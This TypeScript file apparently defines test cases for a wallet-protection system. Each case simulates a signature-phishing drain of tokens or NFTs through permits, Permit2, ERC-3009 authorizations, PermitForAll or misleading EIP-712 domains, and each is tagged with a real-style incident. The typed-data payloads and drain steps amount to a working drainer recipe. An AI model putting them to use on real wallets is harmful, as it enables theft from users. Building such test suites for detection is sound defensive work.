import { type Address, keccak256, parseAbi, stringToHex } from 'viem';
import type { Case } from '../../Case.ts';
import { aave } from '../../protocols/aave.ts';
import type { Contract } from '../../protocols/contract.ts';
import { civic, dollar, gallery, itemOf, meadow, orchard } from '../../protocols/tokens.ts';
import { pairOf, permit2 } from '../../protocols/uniswap.ts';
import { lumen, portraitOf, portraits, quarry, special, usdc } from '../coins.ts';
import { attack, CENTS, code, dataOf, MAX, members, type Site, type Stage, type Typed } from '../kit.ts';
import { HOUSE, puller, take, takeBy, unborn } from './approvals.ts';

const LOGIN: Site = {
  origin: 'https://app.saltmarsh-finance.com',
  provenance: 'Permit phishing, $6.28 M of aEthWBTC and stETH, September 2025',
};
const MKR: Site = {
  origin: 'https://vote.granitecouncil.org',
  provenance: 'Permit phishing, $11 M of aEthMKR and Pendle USDe, June 2024',
};
const P2: Site = { origin: 'https://swap.amberquay.io', provenance: 'Permit2 phishing, $1.39 M of PEPE, October 2024' };
const PAY: Site = {
  origin: 'https://checkout.tallyroom.shop',
  provenance: 'ERC-3009 phishing of dollars (Scam Sniffer 2025)',
};
const ART: Site = {
  origin: 'https://studio.northpierclub.art',
  provenance: 'ERC-4494 and PermitForAll (Solady, manifold)',
};
const FORK: Site = {
  origin: 'https://app.kestrelfork.exchange',
  provenance: 'EIP-712 domains of another chain or of none',
};

const PERMIT = members('address owner,address spender,uint256 value,uint256 nonce,uint256 deadline');

interface Asked {
  readonly name: string;
  readonly version?: string;
  readonly spender: Address;
  readonly value?: bigint;
  readonly deadline?: bigint;
  readonly chainId?: number;
}

/** An ERC-2612 permit of the user's. */
export function permitOf(
  s: Stage,
  coin: Contract,
  { name, version, spender, value = MAX, deadline = MAX, chainId }: Asked,
): Typed {
  return {
    domain: {
      name,
      ...(version === undefined ? {} : { version }),
      chainId: chainId ?? s.world.chainId,
      verifyingContract: coin.address,
    },
    types: { Permit: PERMIT },
    primaryType: 'Permit',
    message: { owner: s.user, spender, value, nonce: 0n, deadline },
  };
}

const PERMIT_ABI = parseAbi([
  'function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)',
]);

/** The thief hands the permit in. */
async function handIn(s: Stage, coin: Contract, data: Typed): Promise<void> {
  const { owner, spender, value, deadline } = data.message;
  await s.rob({ address: coin.address, abi: PERMIT_ABI }, 'permit', [
    owner,
    spender,
    value,
    deadline,
    ...(await s.vrs(data)),
  ]);
}

const DETAILS = members('address token,uint160 amount,uint48 expiration,uint48 nonce');
const PERMITTED = members('address token,uint256 amount');
const PERMIT2_MORE = parseAbi([
  'struct Details { address token; uint160 amount; uint48 expiration; uint48 nonce; }',
  'struct Batch { Details[] details; address spender; uint256 sigDeadline; }',
  'struct Single { Details details; address spender; uint256 sigDeadline; }',
  'struct Permitted { address token; uint256 amount; }',
  'struct One { Permitted permitted; uint256 nonce; uint256 deadline; }',
  'struct Many { Permitted[] permitted; uint256 nonce; uint256 deadline; }',
  'struct To { address to; uint256 requestedAmount; }',
  'function permit(address owner, Batch batch, bytes signature)',
  'function permitTransferFrom(One permit, To details, address owner, bytes signature)',
  'function permitTransferFrom(Many permit, To[] details, address owner, bytes signature)',
  'function permitWitnessTransferFrom(One permit, To details, address owner, bytes32 witness, string witnessTypeString, bytes signature)',
]);
/** Permit2's overloads, one at a time. */
export function permit2Form(at: number): Contract {
  const item = PERMIT2_MORE.filter(({ type }) => type === 'function')[at];
  return { address: permit2().address, abi: item === undefined ? [] : [item] };
}

export function permit2Domain(s: Stage) {
  return { name: 'Permit2', chainId: s.world.chainId, verifyingContract: permit2().address };
}

export function transferOf(s: Stage, coin: Contract, spender: Address, amount: bigint, deadline = MAX): Typed {
  return {
    domain: permit2Domain(s),
    types: {
      PermitTransferFrom: members('TokenPermissions permitted,address spender,uint256 nonce,uint256 deadline'),
      TokenPermissions: PERMITTED,
    },
    primaryType: 'PermitTransferFrom',
    message: { permitted: { token: coin.address, amount }, spender, nonce: 11n, deadline },
  };
}

const THREE009 = members('address from,address to,uint256 value,uint256 validAfter,uint256 validBefore,bytes32 nonce');

export function authorizationOf(
  s: Stage,
  coin: Contract,
  primaryType: string,
  to: Address,
  value: bigint,
  validBefore = MAX,
): Typed {
  return {
    domain: { name: 'USD Coin', version: '2', chainId: s.world.chainId, verifyingContract: coin.address },
    types: { [primaryType]: THREE009 },
    primaryType,
    message: { from: s.user, to, value, validAfter: 0n, validBefore, nonce: keccak256(stringToHex(primaryType)) },
  };
}

function thereFrom(m: Typed['message']): readonly unknown[] {
  return [m.from, m.to, m.value, m.validAfter, m.validBefore, m.nonce];
}

async function inPermit2(s: Stage): Promise<readonly [Contract, Contract]> {
  const [first, other] = [await usdc(s.world), await lumen(s.world)];
  await s.allowed(first, permit2());
  await s.allowed(other, permit2());
  return [first, other];
}

export const PERMITS: readonly Case[] = [
  attack(LOGIN, 'permit-usdc', 'B1', 'USDC Permit, unlimited, to a wallet', async (s) => {
    const coin = await usdc(s.world);
    const data = permitOf(s, coin, { name: 'USD Coin', version: '2', spender: s.thief });
    return s.theft(s.typed(data), s.held(coin), async () => {
      await handIn(s, coin, data);
      await take(s, coin);
    });
  }),
  attack(LOGIN, 'permit-atoken', 'B1', 'Aave receipt token Permit to a splitter', async (s) => {
    const { pool, dollars } = await aave(s.world);
    await s.allowed(dollars.asset, pool);
    await s.did(pool, 'supply', [dollars.asset.address, 9000n * CENTS, s.user, 0]);
    const by = await puller(s);
    const data = permitOf(s, dollars.receipt, {
      name: 'Harbor Lend HBD',
      version: '1',
      spender: by.address,
      value: 9000n * CENTS,
      deadline: await s.in(1800),
    });
    return s.theft(s.typed(data), s.held(dollars.receipt), async () => {
      await handIn(s, dollars.receipt, data);
      await takeBy(s, by, dollars.receipt);
    });
  }),
  attack(P2, 'permit-lp', 'B1', 'Uniswap V2 LP token Permit', async (s) => {
    const pair = await pairOf(s.world, await meadow(s.world), await dollar(s.world));
    const some = (await s.balance(pair, s.world.deployer)) / 20n;
    await s.did(pair, 'transfer', [s.user, some], 0n, s.world.deployer);
    const data = permitOf(s, pair, { name: 'Uniswap V2', version: '1', spender: s.thief });
    return s.theft(s.typed(data), s.held(pair), async () => {
      await handIn(s, pair, data);
      await take(s, pair);
    });
  }),
  attack(MKR, 'permit-votes', 'B1', 'governance coin Permit of the exact balance, ten minutes', async (s) => {
    const [coin, by] = [await civic(s.world), await puller(s)];
    const data = permitOf(s, coin, {
      name: 'Civic',
      version: '1',
      spender: by.address,
      value: await s.balance(coin),
      deadline: await s.in(600),
    });
    return s.theft(s.typed(data), s.held(coin), async () => {
      await handIn(s, coin, data);
      await takeBy(s, by, coin);
    });
  }),
  attack(MKR, 'permit-v3-method', 'B1', 'Permit over eth_signTypedData_v3', async (s) => {
    const coin = await quarry(s.world);
    const data = permitOf(s, coin, { name: 'Quarry', version: '1', spender: s.thief });
    return s.theft(s.typed(data, 'eth_signTypedData_v3'), s.held(coin), async () => {
      await handIn(s, coin, data);
      await take(s, coin);
    });
  }),
  attack(P2, 'permit-unborn', 'A5', 'Permit whose spender is a CREATE2 address without code', async (s) => {
    const [coin, nursery] = [await lumen(s.world), await s.trap('Nursery')];
    const { at, init, salt } = unborn(s, nursery);
    const data = permitOf(s, coin, { name: 'Lumenfield', version: '1', spender: at, value: await s.balance(coin) });
    return s.theft(s.typed(data), s.held(coin), async () => {
      await s.rob(nursery, 'hatch', [salt, init]);
      await handIn(s, coin, data);
      await takeBy(s, { address: at, abi: code('SplitPuller').abi }, coin);
    });
  }),
  attack(P2, 'permit-forwarder', 'B6', "Permit whose spender runs anybody's calls", async (s) => {
    const [coin, by] = [await usdc(s.world), await s.place('CarelessDesk')];
    const data = permitOf(s, coin, { name: 'USD Coin', version: '2', spender: by.address, deadline: await s.in(1200) });
    return s.theft(s.typed(data), s.held(coin), async () => {
      await handIn(s, coin, data);
      const pull = dataOf(coin, 'transferFrom', [s.user, s.thief, await s.balance(coin)]);
      await s.rob(by, 'performAction', [coin.address, coin.address, 0n, pull]);
    });
  }),
  ...([0n, MAX] as const).map((expiry) =>
    attack(
      LOGIN,
      expiry === 0n ? 'dai-for-ever' : 'dai-to-contract',
      'B2',
      expiry === 0n ? 'Dai permit, no expiry, to a wallet' : 'Dai permit to a splitter',
      async (s) => {
        const coin = await orchard(s.world);
        const by = await puller(s);
        const spender = expiry === 0n ? s.thief : by.address;
        const data: Typed = {
          domain: { name: 'Orchard Stable', version: '1', chainId: s.world.chainId, verifyingContract: coin.address },
          types: { Permit: members('address holder,address spender,uint256 nonce,uint256 expiry,bool allowed') },
          primaryType: 'Permit',
          message: { holder: s.user, spender, nonce: 0n, expiry, allowed: true },
        };
        return s.theft(s.typed(data), s.held(coin), async () => {
          await s.rob(coin, 'permit', [s.user, spender, 0n, expiry, true, ...(await s.vrs(data))]);
          await (expiry === 0n ? take(s, coin) : takeBy(s, by, coin));
        });
      },
    ),
  ),
  attack(P2, 'permit2-single', 'B3', 'PermitSingle to a wallet', async (s) => {
    const [coin] = await inPermit2(s);
    const details = { token: coin.address, amount: 2n ** 160n - 1n, expiration: 2 ** 48 - 1, nonce: 0 };
    const data: Typed = {
      domain: permit2Domain(s),
      types: {
        PermitSingle: members('PermitDetails details,address spender,uint256 sigDeadline'),
        PermitDetails: DETAILS,
      },
      primaryType: 'PermitSingle',
      message: { details, spender: s.thief, sigDeadline: MAX },
    };
    return s.theft(s.typed(data), s.held(coin), async () => {
      await s.rob(permit2(), 'permit', [s.user, data.message, await s.signed(data)]);
      await s.rob(permit2(), 'transferFrom', [s.user, s.thief, await s.balance(coin), coin.address]);
    });
  }),
  attack(P2, 'permit2-batch', 'B3', 'PermitBatch of two coins to a splitter', async (s) => {
    const [coin, other] = await inPermit2(s);
    const by = await puller(s);
    const expiration = Number(await s.in(86_400 * 30));
    const details = [coin, other].map(({ address }) => ({ token: address, amount: 2n ** 150n, expiration, nonce: 0 }));
    const data: Typed = {
      domain: permit2Domain(s),
      types: {
        PermitBatch: members('PermitDetails[] details,address spender,uint256 sigDeadline'),
        PermitDetails: DETAILS,
      },
      primaryType: 'PermitBatch',
      message: { details, spender: by.address, sigDeadline: await s.in(1800) },
    };
    return s.theft(s.typed(data), s.held(other), async () => {
      await s.rob(permit2Form(0), 'permit', [s.user, data.message, await s.signed(data)]);
      await s.rob(by, 'x9', [
        permit2().address,
        [{ from: s.user, to: s.thief, amount: await s.balance(other), token: other.address }],
      ]);
    });
  }),
  attack(P2, 'permit2-transfer', 'B4', 'PermitTransferFrom to a wallet', async (s) => {
    const [coin] = await inPermit2(s);
    const amount = await s.balance(coin);
    const data = transferOf(s, coin, s.thief, amount);
    return s.theft(s.typed(data), s.held(coin), async () => {
      const { permitted, nonce, deadline } = data.message;
      await s.rob(permit2Form(1), 'permitTransferFrom', [
        { permitted, nonce, deadline },
        { to: HOUSE, requestedAmount: amount },
        s.user,
        await s.signed(data),
      ]);
    });
  }),
  attack(P2, 'permit2-batch-transfer', 'B4', 'PermitBatchTransferFrom to a wallet', async (s) => {
    const both = await inPermit2(s);
    const permitted = await Promise.all(
      both.map(async (coin) => ({ token: coin.address, amount: await s.balance(coin) })),
    );
    const data: Typed = {
      domain: permit2Domain(s),
      types: {
        PermitBatchTransferFrom: members('TokenPermissions[] permitted,address spender,uint256 nonce,uint256 deadline'),
        TokenPermissions: PERMITTED,
      },
      primaryType: 'PermitBatchTransferFrom',
      message: { permitted, spender: s.thief, nonce: 3n, deadline: MAX },
    };
    return s.theft(s.typed(data), s.held(both[1]), async () => {
      const to = permitted.map(({ amount }) => ({ to: HOUSE, requestedAmount: amount }));
      await s.rob(permit2Form(2), 'permitTransferFrom', [
        { permitted, nonce: 3n, deadline: MAX },
        to,
        s.user,
        await s.signed(data),
      ]);
    });
  }),
  attack(P2, 'permit2-witness', 'B4', 'PermitWitnessTransferFrom with a made-up claim as witness', async (s) => {
    const [coin] = await inPermit2(s);
    const [amount, by] = [await s.balance(coin), await s.trap('SwapReactor', [permit2().address])];
    const claim = { campaign: 'Season Two', points: 48_210n };
    const types = {
      PermitWitnessTransferFrom: members(
        'TokenPermissions permitted,address spender,uint256 nonce,uint256 deadline,PointsClaim witness',
      ),
      PointsClaim: members('string campaign,uint256 points'),
      TokenPermissions: PERMITTED,
    };
    const message = {
      permitted: { token: coin.address, amount },
      spender: by.address,
      nonce: 5n,
      deadline: MAX,
      witness: claim,
    };
    const data: Typed = { domain: permit2Domain(s), types, primaryType: 'PermitWitnessTransferFrom', message };
    return s.theft(s.typed(data), s.held(coin), async () => {
      const witness = witnessHash(claim);
      const kind =
        'PointsClaim witness)PointsClaim(string campaign,uint256 points)TokenPermissions(address token,uint256 amount)';
      const one = { permitted: message.permitted, nonce: 5n, deadline: MAX };
      const args = [one, { to: s.thief, requestedAmount: amount }, s.user, witness, kind, await s.signed(data)];
      await s.rob(by, 'execute', [dataOf(permit2Form(3), 'permitWitnessTransferFrom', args)]);
    });
  }),
  attack(PAY, 'transfer-authorization', 'B5', 'TransferWithAuthorization of the whole balance', async (s) => {
    const coin = await usdc(s.world);
    const data = authorizationOf(s, coin, 'TransferWithAuthorization', HOUSE, await s.balance(coin));
    return s.theft(s.typed(data), s.held(coin), async () => {
      await s.rob(coin, 'transferWithAuthorization', [...thereFrom(data.message), ...(await s.vrs(data))]);
    });
  }),
  attack(PAY, 'receive-authorization', 'B5', 'ReceiveWithAuthorization to a thief', async (s) => {
    const coin = await usdc(s.world);
    const data = authorizationOf(s, coin, 'ReceiveWithAuthorization', s.thief, ((await s.balance(coin)) * 9n) / 10n);
    return s.theft(s.typed(data), s.held(coin), async () => {
      await s.rob(coin, 'receiveWithAuthorization', [...thereFrom(data.message), ...(await s.vrs(data))]);
    });
  }),
  attack(ART, 'item-permit', 'B5', 'ERC-4494 Permit of an item to a wallet', async (s) => {
    const items = await gallery(s.world);
    const id = itemOf(s.world, s.user);
    const data: Typed = {
      domain: { name: 'Harbor Gallery', version: '1', chainId: s.world.chainId, verifyingContract: items.address },
      types: { Permit: members('address spender,uint256 tokenId,uint256 nonce,uint256 deadline') },
      primaryType: 'Permit',
      message: { spender: s.thief, tokenId: id, nonce: 0n, deadline: MAX },
    };
    return s.theft(s.typed(data), s.held(items), async () => {
      await s.rob(items, 'permit', [s.thief, id, MAX, await s.signed(data)]);
      await s.rob(items, 'transferFrom', [s.user, s.thief, id]);
    });
  }),
  attack(ART, 'permit-for-all', 'B5', 'PermitForAll to a wallet', async (s) => {
    const items = await portraits(s.world);
    const id = portraitOf(s.world, s.user);
    const data: Typed = {
      domain: { name: 'Portrait Hall', version: '1', chainId: s.world.chainId, verifyingContract: items.address },
      types: { PermitForAll: members('address owner,address operator,bool approved,uint256 nonce,uint256 deadline') },
      primaryType: 'PermitForAll',
      message: { owner: s.user, operator: s.thief, approved: true, nonce: 0n, deadline: MAX },
    };
    return s.theft(s.typed(data), s.held(items), async () => {
      await s.rob(items, 'permitForAll', [s.user, s.thief, true, MAX, await s.signed(data)]);
      await s.rob(items, 'transferFrom', [s.user, s.thief, id]);
    });
  }),
  attack(FORK, 'foreign-chain', 'F8', 'Permit whose domain names another chain and works here', async (s) => {
    const coin = await special(s.world, 'ForkCoin');
    const by = await puller(s);
    const data = permitOf(s, coin, { name: 'Kestrel', version: '1', spender: by.address, chainId: 56 });
    return s.theft(s.typed(data), s.held(coin), async () => {
      await handIn(s, coin, data);
      await takeBy(s, by, coin);
    });
  }),
  attack(FORK, 'nameless-domain', 'F8', 'Move{from,token,to} under a domain that is only a name', async (s) => {
    const [coin, relay] = [await quarry(s.world), await s.place('NamelessRelay')];
    await s.allowed(coin, relay);
    const amount = await s.balance(coin);
    const data: Typed = {
      domain: { name: 'Relay' },
      types: { Move: members('address from,address token,address to,uint256 amount,uint256 nonce') },
      primaryType: 'Move',
      message: { from: s.user, token: coin.address, to: s.thief, amount, nonce: 0n },
    };
    return s.theft(s.typed(data), s.held(coin), async () => {
      await s.rob(relay, 'relay', [s.user, coin.address, s.thief, amount, 0n, await s.signed(data)]);
    });
  }),
];

/** hashStruct of the witness: what the struct hashes to without a domain. */
function witnessHash(message: { campaign: string; points: bigint }): `0x${string}` {
  const typeHash = keccak256(stringToHex('PointsClaim(string campaign,uint256 points)'));
  const points = message.points.toString(16).padStart(64, '0');
  return keccak256(`0x${typeHash.slice(2)}${keccak256(stringToHex(message.campaign)).slice(2)}${points}`);
}
